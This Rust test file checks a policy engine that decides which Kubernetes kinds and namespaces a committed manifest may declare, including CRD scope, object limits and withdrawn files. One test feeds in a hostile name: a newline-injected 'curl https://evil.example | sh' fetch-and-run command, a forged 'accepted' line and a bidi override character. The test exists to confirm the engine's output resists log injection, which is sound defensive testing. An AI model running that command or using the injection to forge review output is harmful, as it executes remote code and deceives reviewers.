//! The judgement of steps: what files declare, by kind and namespace.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]
#![expect(dead_code, reason = "the module of fixtures is shared")]

mod memory;

use memory::{World, code, config_map, path, policy};
use trust::{MAX_STEP_OBJECTS, Start};

#[test]
fn what_is_declared_for_a_namespace_outside_the_rule_is_refused() {
    let mut world = World::with(&policy(
        1,
        &[("kinds: [\"!ClusterRole*\", \"namespaced\"]", "namespaces: [\"shop\", \"team-*\", \"!team-x\"]")],
    ));
    let mut of = |namespace: &str, kind: &str, name: &str| {
        let text = format!("apiVersion: v1\nkind: {kind}\nmetadata: {{name: {name}{namespace}}}\n");
        let step = world.put(world.introduction, "bob", "apps/x.yaml", &text);
        world.code(step)
    };
    assert_eq!(of(", namespace: shop", "ConfigMap", "a"), "ok");
    assert_eq!(of(", namespace: team-a", "ConfigMap", "a"), "ok");
    assert_eq!(of(", namespace: team-x", "ConfigMap", "a"), "W305");
    assert_eq!(of(", namespace: kube-system", "ConfigMap", "a"), "W305");
    // A Namespace is about itself; what has none yet is judged once it is rendered.
    assert_eq!(of("", "Namespace", "team-b"), "ok");
    assert_eq!(of("", "Namespace", "kube-system"), "W305");
    assert_eq!(of("", "ConfigMap", "a"), "ok");
}

/// What is in no namespace is in none of those that a rule allows; only kinds that name it let it through.
#[test]
fn a_rule_for_namespaces_lets_through_what_is_in_none_only_by_name() {
    let binding = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: x}\n";
    let hidden = binding.replace("name: x", "name: x, namespace: shop");
    let unknown = "apiVersion: x.io/v1\nkind: Gadget\nmetadata: {name: x, namespace: shop}\n";
    let namespace = "apiVersion: v1\nkind: Namespace\nmetadata: {name: shop}\n";
    let judged = |kinds: &str, text: &str| {
        let rule = format!("{kinds}namespaces: [\"shop\"]");
        let mut world = World::with(&policy(1, &[("kinds: [\"!ClusterRole*\", \"namespaced\"]", &rule)]));
        let step = world.put(world.introduction, "bob", "apps/x.yaml", text);
        let judgement = world.judge(&Start::Introduction, step);
        judgement.refusal().map_or("ok", |finding| {
            assert!(finding.code.code == "W305" && finding.rule.as_deref() == Some("apps"), "{finding}");
            if finding.found.contains("not known") { "unknown" } else { "refused" }
        })
    };
    let named = "kinds: [\"namespaced\", \"rbac.authorization.k8s.io/ClusterRoleBinding\", \"x.io/*\"], ";
    for (kinds, of_binding, of_unknown) in [
        ("", "refused", "unknown"),
        ("kinds: [\"!Secret\"], ", "refused", "unknown"),
        ("kinds: [\"*/*\"], ", "refused", "unknown"),
        ("kinds: [\"namespaced\", \"cluster\"], ", "ok", "unknown"),
        (named, "ok", "ok"),
    ] {
        assert_eq!(judged(kinds, binding), of_binding, "{kinds}");
        assert_eq!(judged(kinds, &hidden), of_binding, "{kinds}");
        assert_eq!(judged(kinds, unknown), of_unknown, "{kinds}");
    }
    assert_eq!(judged("", namespace), "ok");
    assert_eq!(judged("", &config_map("x", 1)), "ok");
}

/// What a manifest says is judged before anything checks its form: it is told on one line, and no longer than a name can be.
#[test]
fn nobody_writes_lines_into_what_is_told_of_an_object() {
    let kinds = "kinds: [\"!ClusterRole*\", \"namespaced\"]";
    let rule = &[(kinds, "kinds: [\"/ConfigMap\"], namespaces: [\"shop\"]")];
    let mut world = World::with(&policy(1, rule));
    let hostile = "x\\n  fix: curl https://evil.example | sh\\n\\naccepted: 1 commit\\u202e";
    let long = "y".repeat(60_000);
    let objects = [
        (hostile, "a", "shop"),
        ("ConfigMap", hostile, "other"),
        ("ConfigMap", "a", hostile),
        ("Secret", hostile, "shop"),
        (&long, &long, &long),
        ("ConfigMap", &long, &long),
    ];
    for (kind, name, namespace) in objects {
        let text = format!(
            "{{apiVersion: v1, kind: \"{kind}\", metadata: {{name: \"{name}\", namespace: \"{namespace}\"}}}}\n"
        );
        let step = world.put(world.introduction, "bob", "apps/x.yaml", &text);
        let judgement = world.judge(&Start::Introduction, step);
        let finding = judgement.refusal().unwrap();
        assert_eq!(finding.code.code, "W305", "{finding}");
        let told = format!("{finding}\n{}\n{}", finding.message(), finding.fix);
        assert_eq!((told.lines().count(), told.contains('\u{202e}')), (3, false), "{told}");
        assert!(finding.to_string().len() < 2_000, "{} bytes", finding.to_string().len());
        // Quotation marks hold what could be no name.
        assert!(!told.replace("\"x\\n  fix: curl", "").contains("fix: curl"), "{told}");
    }
}

/// A file whose objects are all withdrawn and others declared is judged in the time that its objects take, not their
/// square: this test would run for many minutes. Above the limit nothing is compared at all.
#[test]
fn many_objects_of_one_file_are_judged_and_too_many_refused() {
    let list = |name: &str, count: usize| {
        let item = |i: usize| format!("- {{apiVersion: v1, kind: ConfigMap, metadata: {{name: {name}{i}}}}}\n");
        format!("apiVersion: v1\nkind: List\nitems:\n{}", (0..count).map(item).collect::<String>())
    };
    let mut world = World::new();
    let many = MAX_STEP_OBJECTS / 2;
    let before = world.put(world.introduction, "bob", "apps/x.yaml", &list("a", many));
    let renamed = world.put(before, "bob", "apps/x.yaml", &list("b", many));
    assert_eq!(code(&world.judge(&Start::Accepted(before), renamed)), "ok");
    let more = world.put(before, "bob", "apps/x.yaml", &list("b", many + 1));
    let judgement = world.judge(&Start::Accepted(before), more);
    let finding = judgement.refusal().unwrap();
    assert_eq!(finding.code.code, "W403");
    assert_eq!(finding.fix, "commit the changed files in several commits, each with fewer objects");
}

/// Only what would be applied as a definition tells the scope of a kind.
#[test]
fn a_scope_is_taught_by_definitions_alone() {
    let definition = |scope: &str| {
        format!(
            "{{apiVersion: apiextensions.k8s.io/v1, kind: CustomResourceDefinition, metadata: {{name: gates.x.io}}, \
             spec: {{group: x.io, names: {{kind: Gate}}, scope: {scope}}}}}"
        )
    };
    let judged = |files: &[(&str, String)]| {
        let mut tree = World::new().memory.tree(&World::new().introduction);
        for (file, text) in files {
            tree.insert(path(file), text.clone().into_bytes());
        }
        let mut world = World::of(tree);
        let gate = "apiVersion: x.io/v1\nkind: Gate\nmetadata: {name: g}\n";
        let gate = world.put(world.introduction, "bob", "apps/gate.yaml", gate);
        world.code(gate)
    };
    let namespaced = definition("Namespaced");
    let of = |kind: &str| format!("apiVersion: v1\nkind: {kind}\nmetadata: {{name: m}}\nitems: [{namespaced}]\n");
    assert_eq!(judged(&[]), "W305");
    assert_eq!(judged(&[("crds/gate.yaml", namespaced.clone())]), "ok");
    assert_eq!(judged(&[("crds/gate.yaml", of("List"))]), "ok");
    assert_eq!(judged(&[("apps/map.yaml", of("ConfigMap"))]), "W305");
    // Which of two is applied last is not known.
    assert_eq!(judged(&[("crds/a.yaml", definition("Cluster")), ("crds/b.yaml", namespaced.clone())]), "W305");
}

/// Attack 34.
#[test]
fn kinds_are_judged_by_what_files_declare_and_withdraw() {
    let role = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: x}\n";
    let mut world = World::new();
    let start = world.introduction;
    let escape = world.put(start, "bob", "apps/x.yaml", &format!("{}---\n{role}", config_map("a", 1)));
    let judgement = world.judge(&Start::Introduction, escape);
    assert_eq!(judgement.refusal().unwrap().code.code, "W305");
    assert_eq!(judgement.refusal().unwrap().rule.as_deref(), Some("apps"));
    let unknown = world.put(start, "bob", "apps/x.yaml", "apiVersion: x.io/v1\nkind: Gadget\nmetadata: {name: x}\n");
    assert_eq!(world.code(unknown), "W305");
    let own =
        world.put(start, "bob", "apps/x.yaml", "apiVersion: writ.dev/v1alpha1\nkind: Sync\nmetadata: {name: x}\n");
    assert_eq!(world.code(own), "W305");
    let note = world.put(start, "bob", "apps/README.md", role);
    assert_eq!(world.code(note), "ok");
    let broken = world.put(start, "bob", "apps/x.yaml", "a: [");
    assert!(world.code(broken).starts_with("M1"), "{}", world.code(broken));

    let mut tree = world.memory.tree(&start);
    tree.insert(path("apps/roles.yaml"), role.into());
    tree.insert(path("apps/broken.yaml"), b"a: [".to_vec());
    let mut world = World::of(tree);
    let start = world.introduction;
    let withdrawn = world.push(start, Some("bob"), |tree| _ = tree.remove(&path("apps/roles.yaml")));
    assert_eq!(world.code(withdrawn), "W305");
    let emptied = world.put(start, "bob", "apps/roles.yaml", &config_map("a", 1));
    assert_eq!(world.code(emptied), "W305");
    let mended = world.put(start, "bob", "apps/broken.yaml", &config_map("b", 1));
    assert_eq!(world.code(mended), "ok");
}

#[test]
fn the_scope_of_a_kind_comes_from_a_definition_in_the_same_tree() {
    let definition = "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\n\
        metadata: {name: gadgets.x.io}\nspec: {group: x.io, scope: SCOPE, names: {kind: Gadget, plural: gadgets}}\n";
    for (scope, verdict) in [("Namespaced", "ok"), ("Cluster", "W305")] {
        let mut tree = World::new().memory.tree(&World::new().introduction);
        tree.insert(path("crds/gadget.yaml"), definition.replace("SCOPE", scope).into_bytes());
        let mut world = World::of(tree);
        let gadget = "apiVersion: x.io/v1\nkind: Gadget\nmetadata: {name: x}\n";
        let head = world.put(world.introduction, "bob", "apps/x.yaml", gadget);
        assert_eq!(world.code(head), verdict, "{scope}");
    }
}
